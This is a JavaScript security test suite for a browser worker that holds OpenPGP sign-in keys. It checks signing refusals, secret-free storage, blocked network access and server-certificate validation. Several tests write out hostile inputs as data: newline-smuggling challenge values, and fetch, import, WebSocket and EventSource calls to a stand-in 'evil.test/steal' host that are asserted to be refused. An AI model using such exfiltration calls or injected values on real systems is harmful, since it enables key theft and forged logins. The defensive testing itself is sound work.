// The worker that holds this browser's keys: what it does for whom, and what it does not.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";

import {
  button, call, challengeFor, keeperOf, keysPage, make, open, PASSPHRASE, passphrase, signIn, start, stored,
} from "../browser_keys.mjs";
import { openpgp } from "../modules.mjs";

/** What each field of a challenge may not be. */
const SPOILT = [
  { origin: "https://evil.test" }, { origin: "" }, { origin: undefined }, { origin: ["http://localhost"] },
  { service: "example.org\nexpires=2099" }, { service: "a\rb" }, { service: "a\u2028b" }, { service: "a\u0085b" },
  { service: "x".repeat(254) },
  { nonce: "CAPAUTH_ROTATION_V1\nnonce=1" }, { nonce: 7 }, { nonce: "" }, { client_nonce_echo: "a\u0000" },
  { timestamp: "\ud800" }, { expires: null }, { expires: { now: 1 } },
];

/** The purposes that there are: a login, the claims with it, and calling off a rotation. */
export async function attack_worker_asked_to_sign_for_another_site({ harness }) {
  const page = await keysPage(harness);
  const { fingerprint } = await call(page, "makeKey", { label: "", passphrase: PASSPHRASE });
  const challenge = challengeFor(page);
  await call(page, "signLogin", { fingerprint, challenge, passphrase: PASSPHRASE, keepUnlocked: 3600 });
  for (const spoilt of SPOILT) {
    const asked = { fingerprint, challenge: { ...challenge, ...spoilt } };
    assert.deepEqual(await call(page, "signLogin", asked), ["unusable", "foreign"], JSON.stringify(spoilt));
    const locked = { ...asked, passphrase: PASSPHRASE };
    assert.deepEqual(await call(page, "signLogin", locked), ["unusable", "foreign"], JSON.stringify(spoilt));
  }
  for (const claims of [["a"], { name: "a\u0007" }, { name: "\ud800" }, { name: "x".repeat(9000) }]) {
    assert.deepEqual(await call(page, "signLogin", { fingerprint, challenge, claims }), ["unusable", "claims"]);
  }
  const other = { fingerprint: `${fingerprint}\nnonce=1`, challenge, claims: { name: "A" } };
  assert.deepEqual(await call(page, "signLogin", other), ["none", "none"]);

  // Straight to the worker, by names that it may have inside.
  const inside = ["sign", "signTexts", "unlock", "key", "constructor", "__proto__", "toString"];
  const answers = await page.evaluate(([asked, tasks]) => {
    const worker = globalThis.startKeeper();
    return Promise.all(tasks.map((task, id) => new Promise((resolve) => {
      worker.addEventListener("message", ({ data }) => data.id === id && resolve(data));
      worker.postMessage({ id, task, asked });
    })));
  }, [{ fingerprint, text: "anything", payload: "anything" }, inside]);
  const refused = { code: "broken", why: "broken" };
  for (const { answer, trouble } of answers) assert.deepEqual([answer, trouble], [undefined, refused]);

  const rotation = { fingerprint, nonce: "1", service: "example.org", timestamp: "2026-01-01T00:00:00Z" };
  assert.deepEqual(await call(page, "signCancellation", rotation), ["locked", "locked"], "never with what is unlocked");
  const spoilt = { ...rotation, nonce: "1\nservice=b", passphrase: PASSPHRASE };
  assert.deepEqual(await call(page, "signCancellation", spoilt), ["unusable", "foreign"]);

  // What it does sign is exactly this, while it is unlocked and with the passphrase.
  const { armored } = await call(page, "publicKey", { fingerprint });
  const claims = { name: "Ä\n", a: { z: 1, b: [true, null] } };
  for (const how of [{ passphrase: PASSPHRASE, keepUnlocked: 60 }, {}]) {
    const { nonce, client_nonce_echo: echo } = challenge;
    const asked = { fingerprint, challenge: { ...challenge, more: "ignored" }, claims, ...how };
    const signed = await call(page, "signLogin", asked);
    await verified(armored, signed.nonce_signature, `CAPAUTH_NONCE_V2\nnonce=${nonce}\nclient_nonce=${echo}\n`
      + `origin=${challenge.origin}\ntimestamp=${challenge.timestamp}\nservice=example.org\nexpires=${challenge.expires}`);
    await verified(armored, signed.claims_signature, `CAPAUTH_CLAIMS_V1\nfingerprint=${fingerprint}\nnonce=${nonce}\n`
      + 'claims={"a":{"b":[true,null],"z":1},"name":"Ä\\n"}');
  }
  const { signature } = await call(page, "signCancellation", { ...rotation, passphrase: PASSPHRASE });
  await verified(armored, signature, "CAPAUTH_ROTATION_CANCEL_V1\nnonce=1\nservice=example.org\n"
    + `old_fingerprint=${fingerprint}\ntimestamp=2026-01-01T00:00:00Z`);
}

async function verified(publicKey, signature, text) {
  const { signatures } = await openpgp.verify({
    message: await openpgp.createMessage({ binary: Buffer.from(text) }),
    signature: await openpgp.readSignature({ armoredSignature: signature }),
    verificationKeys: await openpgp.readKey({ armoredKey: publicKey }),
  });
  assert(await signatures[0].verified);
}

/** A script of this very site looks at everything that lies in its storage, while the key is locked and while it is not. */
export async function attack_page_reads_the_key({ harness }) {
  const page = await keysPage(harness);
  const { fingerprint } = await call(page, "makeKey", { label: "mine", passphrase: PASSPHRASE });
  const { armored } = await call(page, "exportKey", { fingerprint, passphrase: PASSPHRASE });
  const copy = await openpgp.readPrivateKey({ armoredKey: armored });
  const { keyPacket } = await openpgp.decryptKey({ privateKey: copy, passphrase: PASSPHRASE });
  const secrets = Object.values(keyPacket.privateParams).map((bytes) => Buffer.from(bytes));
  assert(secrets.length > 0 && secrets.every((bytes) => bytes.length === 32));

  const challenge = challengeFor(page);
  for (const keepUnlocked of [0, 3600]) {
    await call(page, "signLogin", { fingerprint, challenge, passphrase: PASSPHRASE, keepUnlocked });
    const found = await stored(page);
    const text = JSON.stringify(found);
    const bytes = found.keys.map(({ secret }) => openpgp.unarmor(secret).then(({ data }) => Buffer.from(data)));
    const all = Buffer.concat([Buffer.from(text), ...(await Promise.all(bytes))]);
    for (const secret of [...secrets, Buffer.from(PASSPHRASE)]) {
      const spelled = ["hex", "base64", "base64url"].map((spelling) => secret.toString(spelling));
      for (const form of [secret, ...spelled, [...secret].join()]) {
        assert(!all.includes(form), "a secret stands in the storage");
      }
    }
    const key = await openpgp.readPrivateKey({ armoredKey: found.keys[0].secret });
    assert.deepEqual([key.isDecrypted(), key.keyPacket.s2k.type], [false, "argon2"]);
    assert.equal(found.unlocked.length, keepUnlocked ? 1 : 0);
    for (const one of found.unlocked) {
      const refused = ["rejected", "rejected", "rejected"];
      assert.deepEqual(one.key, { type: "private", extractable: false, usages: ["sign"], given: refused });
    }
  }
  await call(page, "lockKey", { fingerprint });
  assert.deepEqual((await stored(page)).unlocked, []);
}

/** The worker tries to send something, and everything that a whole run sends is searched for every secret in it. */
export async function attack_secret_key_leaves_the_browser({ harness, facts }) {
  harness.secret(PASSPHRASE, "the passphrase");
  const page = await start(harness, facts);
  await make(page);
  const [download] = await Promise.all([page.waitForEvent("download"), button(page, "Save a copy").click()]);
  await page.getByText("Saved as").waitFor();
  await harness.privateKey(await readFile(await download.path(), "utf8"), PASSPHRASE);
  await button(page, "Continue").click();
  await page.getByLabel("Keep the key unlocked").selectOption("1 hour");
  await signIn(page, harness);
  const { keys: [{ secret }] } = await stored(page);
  await harness.privateKey(secret, PASSPHRASE);

  await open(harness, page);
  await signIn(page, harness);
  await open(harness, page);
  await button(page, "Bring another key").click();
  await page.getByLabel("Paste the key").fill(facts.people.alice.secretKey);
  await page.getByText("Found:").waitFor();
  const before = harness.requests.length;
  // The browser speaks of it, and does not send it.
  harness.expect("foreign request: GET http://evil.test:8079/steal", { optional: true });
  const ways = await keeperOf(page).evaluate(async ([base, foreign]) => {
    const tries = {
      fetch: () => fetch(`${base}/steal?secret=1`),
      elsewhere: () => fetch(`${foreign}/steal`, { mode: "no-cors" }),
      import: () => import(`${foreign}/steal.js`),
      socket: () => new Promise((resolve, reject) => {
        const socket = new WebSocket(base.replace("http", "ws"));
        socket.onopen = resolve;
        socket.onerror = () => reject(new Error("refused"));
      }),
      events: () => new Promise((resolve, reject) => {
        const source = new EventSource(`${base}/steal`);
        source.onopen = resolve;
        source.onerror = () => {
          source.close();
          reject(new Error("refused"));
        };
      }),
    };
    const done = [];
    for (const [name, work] of Object.entries(tries)) {
      done.push(`${name}: ${await Promise.resolve().then(work).then(() => "went out", () => "refused")}`);
    }
    return done;
  }, [harness.base, "http://evil.test:8079"]);
  assert.deepEqual(ways, ["fetch", "elsewhere", "import", "socket", "events"].map((name) => `${name}: refused`));
  const after = harness.requests.slice(before).map(({ url }) => url);
  assert(!after.some((url) => url.includes("steal")), after.join("\n"));
  assert.deepEqual(harness.leaks(), []);
}

/** A server's certificate and its signature over a text, both armored. */
async function server(text, { date, keyExpirationTime } = {}) {
  const userIDs = [{ name: "server" }];
  const { privateKey, publicKey, revocationCertificate } =
    await openpgp.generateKey({ userIDs, format: "object", type: "ecc", date, keyExpirationTime });
  const message = await openpgp.createMessage({ binary: Buffer.from(text) });
  const signature = await openpgp.sign({ message, signingKeys: privateKey, detached: true, date });
  const fingerprint = publicKey.getFingerprint().toUpperCase();
  return { certificate: publicKey.armor(), signature, fingerprint, revocationCertificate };
}

/** Whoever stands between browser and server signs a challenge with a key of their own, or with an old one. */
export async function attack_challenge_signed_by_somebody_else({ harness }) {
  const page = await keysPage(harness);
  const payload = "CAPAUTH_NONCE_V2\nnonce=1";
  const [good, evil] = [await server(payload), await server(payload)];
  const anHourAgo = new Date(Date.now() - 3_600_000);
  const expired = await server(payload, { date: anHourAgo, keyExpirationTime: 60 });
  const { publicKey } = await openpgp.revokeKey({
    key: await openpgp.readKey({ armoredKey: good.certificate }), format: "object",
    revocationCertificate: good.revocationCertificate,
  });
  const check = (asked) => call(page, "serverSigned", { payload, ...good, ...asked });
  assert.equal(await check({}), true);
  assert.equal(await check({ fingerprint: good.fingerprint.toLowerCase() }), true);
  assert.equal(await check({ fingerprint: null }), true, "a page that knows no fingerprint takes the certificate's");
  const refused = {
    "another text": { payload: `${payload}\n` },
    "another's signature": { signature: evil.signature },
    "another's certificate": { certificate: evil.certificate },
    "another's certificate and signature": { certificate: evil.certificate, signature: evil.signature },
    "the fingerprint of another": { fingerprint: evil.fingerprint },
    "a part of the fingerprint": { fingerprint: good.fingerprint.slice(-16) },
    "two certificates": { certificate: `${evil.certificate}\n${good.certificate}` },
    "an expired certificate": expired,
    "a revoked certificate": { certificate: publicKey.armor() },
    "no signature": { signature: "" },
    "no certificate": { certificate: undefined },
    "garbage": { signature: "-----BEGIN PGP SIGNATURE-----\n\nAAAA\n-----END PGP SIGNATURE-----" },
  };
  for (const [what, asked] of Object.entries(refused)) assert.equal(await check(asked), false, what);
}

/** Two tabs make keys at once, and one of them locks what the other unlocked. */
export async function browser_keys_in_several_tabs({ harness }) {
  const page = await keysPage(harness);
  const other = await keysPage(harness, page.context());
  const made = await Promise.all([page, other, page, other].map((tab, i) =>
    call(tab, "makeKey", { label: `key ${i}`, passphrase: PASSPHRASE })));
  const fingerprints = new Set(made.map(({ fingerprint }) => fingerprint));
  assert.equal(fingerprints.size, 4);
  for (const tab of [page, other]) {
    const listed = await call(tab, "listKeys");
    assert.deepEqual(new Set(listed.map(({ fingerprint }) => fingerprint)), fingerprints);
  }
  const [{ fingerprint }] = made;
  const challenge = challengeFor(page);
  await call(page, "signLogin", { fingerprint, challenge, passphrase: PASSPHRASE, keepUnlocked: 300 });
  assert((await call(other, "signLogin", { fingerprint, challenge })).nonce_signature);
  assert.equal((await call(other, "listKeys"))[0].fingerprint, fingerprint, "the one used last comes first");
  await call(other, "lockKey", { fingerprint });
  assert.deepEqual(await call(page, "signLogin", { fingerprint, challenge }), ["locked", "locked"]);
  await call(other, "forgetKey", { fingerprint });
  assert.deepEqual(await call(page, "signLogin", { fingerprint, challenge }), ["none", "none"]);
}

/** A device that has no memory for Argon2 makes and opens keys all the same. */
export async function browser_key_without_argon2({ harness }) {
  const page = await keysPage(harness);
  await call(page, "listKeys");
  await keeperOf(page).evaluate(() => {
    WebAssembly.instantiate = () => Promise.reject(new Error("not here"));
  });
  const { fingerprint } = await call(page, "makeKey", { label: "", passphrase: PASSPHRASE });
  const { keys: [{ secret }] } = await stored(page);
  const { keyPacket } = await openpgp.readPrivateKey({ armoredKey: secret });
  assert.deepEqual([keyPacket.isDecrypted(), keyPacket.s2k.type], [false, "iterated"]);
  const asked = { fingerprint, challenge: challengeFor(page) };
  assert.deepEqual(await call(page, "signLogin", { ...asked, passphrase: "not this one" }), ["passphrase", "passphrase"]);
  assert((await call(page, "signLogin", { ...asked, passphrase: PASSPHRASE })).nonce_signature);
}

/** The worker does not come, and the page says so; then it does. */
export async function browser_key_worker_that_stops({ harness }) {
  harness.expect(/^console error: Failed to load resource: net::ERR_FAILED/, { optional: true });
  const page = await keysPage(harness);
  const context = page.context();
  await context.route("**/keeper.js", (route) => route.abort());
  assert.deepEqual(await call(page, "listKeys"), ["broken", "broken"]);
  await context.unroute("**/keeper.js");
  assert.deepEqual(await call(page, "listKeys"), []);
}
